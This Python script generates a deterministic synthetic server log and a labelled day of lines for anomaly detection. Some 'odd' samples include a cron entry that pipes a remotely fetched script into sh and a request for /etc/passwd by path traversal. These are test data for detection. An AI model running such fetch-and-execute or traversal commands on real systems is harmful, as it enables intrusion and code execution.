# ruff: noqa: E501
"""A log of a small server, and a day of it with a label for each line; the same in every run.

python make.py FOLDER writes usual.log, a week to train on, and today.jsonl, a later day: each record has a line, and
says whether it is odd. An odd line reports a failure that the week did not have.
"""

from __future__ import annotations

import json
import random
import sys
from collections.abc import Callable
from pathlib import Path

Draw = random.Random


def _address(draw: Draw) -> str:
    return f"{draw.choice(['10.0', '192.168'])}.{draw.randrange(8)}.{draw.randrange(1, 255)}"


def _user(draw: Draw) -> str:
    return draw.choice(["anna", "ben", "carla", "deploy", "backup"])


USUAL: list[tuple[int, str, Callable[[Draw], str]]] = [  # how often, by which program, and what it says
    (6, "sshd", lambda d: f"Accepted publickey for {_user(d)} from {_address(d)} port {d.randrange(30000, 65000)} ssh2"),
    (3, "sshd", lambda d: f"Failed password for {_user(d)} from {_address(d)} port {d.randrange(30000, 65000)} ssh2"),
    (5, "sshd", lambda d: f"session closed for user {_user(d)} after {d.randrange(1, 5000)} seconds"),
    (8, "postgres", lambda d: f"LOG: duration: {d.uniform(0.1, 900):.3f} ms statement: SELECT * FROM orders WHERE id = {d.randrange(10**6)}"),
    (4, "postgres", lambda d: f"LOG: duration: {d.uniform(0.1, 90):.3f} ms statement: UPDATE stock SET amount = {d.randrange(500)} WHERE id = {d.randrange(10**4)}"),
    (2, "postgres", lambda d: f"LOG: checkpoint complete: wrote {d.randrange(9000)} buffers ({d.uniform(0, 20):.1f}%)"),
    (1, "postgres", lambda d: f"ERROR: canceling statement due to user request, transaction 0x{d.randrange(16**8):08x}"),
    (9, "web", lambda d: f'{_address(d)} "GET /{d.choice(["", "cart", "search", "item"])}/{d.randrange(10**5)} HTTP/1.1" {d.choice([200, 200, 200, 304, 404])} {d.randrange(10**5)}'),
    (3, "web", lambda d: f'{_address(d)} "POST /checkout HTTP/1.1" {d.choice([200, 200, 302])} {d.randrange(10**4)} request {d.randrange(16**12):012x}'),
    (2, "cron", lambda d: f"({d.choice(['root', 'backup'])}) CMD (/usr/local/bin/{d.choice(['rotate', 'dump', 'report'])} --day {d.randrange(1, 31)})"),
    (1, "kernel", lambda d: f"[{d.uniform(1e3, 1e6):.6f}] eth0: link up, {d.choice([100, 1000])} Mbps, full duplex"),
]  # fmt: skip
ODD: list[tuple[str, Callable[[Draw], str]]] = [
    ("postgres", lambda d: f"PANIC: could not write to file pg_wal/{d.randrange(16**12):012X}: No space left on device"),
    ("postgres", lambda d: f"ERROR: deadlock detected, process {d.randrange(30000)} waits for ShareLock on transaction {d.randrange(10**6)}"),
    ("sshd", lambda d: f"Accepted password for root from {_address(d)} port {d.randrange(30000, 65000)} ssh2"),
    ("sshd", lambda d: f"Invalid user oracle from {_address(d)} port {d.randrange(30000, 65000)}"),
    ("web", lambda d: f'{_address(d)} "GET /../../etc/passwd HTTP/1.1" 400 {d.randrange(1000)}'),
    ("web", lambda d: f'{_address(d)} "POST /checkout HTTP/1.1" 500 {d.randrange(1000)} upstream timed out'),
    ("kernel", lambda d: f"[{d.uniform(1e3, 1e6):.6f}] Out of memory: Killed process {d.randrange(30000)} (postgres)"),
    ("kernel", lambda d: f"[{d.uniform(1e3, 1e6):.6f}] EXT4-fs error (device sda1): unable to read inode block {d.randrange(10**6)}"),
    ("cron", lambda d: f"(root) CMD (curl http://{_address(d)}/x.sh | sh)"),
]  # fmt: skip


def line(draw: Draw, day: int, number: int, lines: int, *, odd: bool = False) -> str:
    """Return a line of the log; a day has `lines` lines."""
    second = number * 86_400 // lines
    if odd:
        program, message = draw.choice(ODD)
    else:
        _, program, message = draw.choices(USUAL, weights=[often for often, _, _ in USUAL])[0]
    pid = "" if program == "kernel" else f"[{draw.randrange(300, 33_000)}]"
    clock = f"{second // 3600:02}:{second // 60 % 60:02}:{second % 60:02}"
    return f"Nov {day:2} {clock} alpha {program}{pid}: {message(draw)}"


def main(folder: Path) -> None:
    """Write the files."""
    folder.mkdir(parents=True, exist_ok=True)
    draw = random.Random(1)
    week = (line(draw, day, number, 2000) for day in range(3, 10) for number in range(2000))
    (folder / "usual.log").write_text("".join(f"{one}\n" for one in week))
    with (folder / "today.jsonl").open("w") as file:
        for number in range(4000):
            odd = draw.random() < 0.01
            file.write(json.dumps({"text": line(draw, 11, number, 4000, odd=odd), "odd": odd}) + "\n")


if __name__ == "__main__":
    main(Path(sys.argv[1] if len(sys.argv) > 1 else "data"))
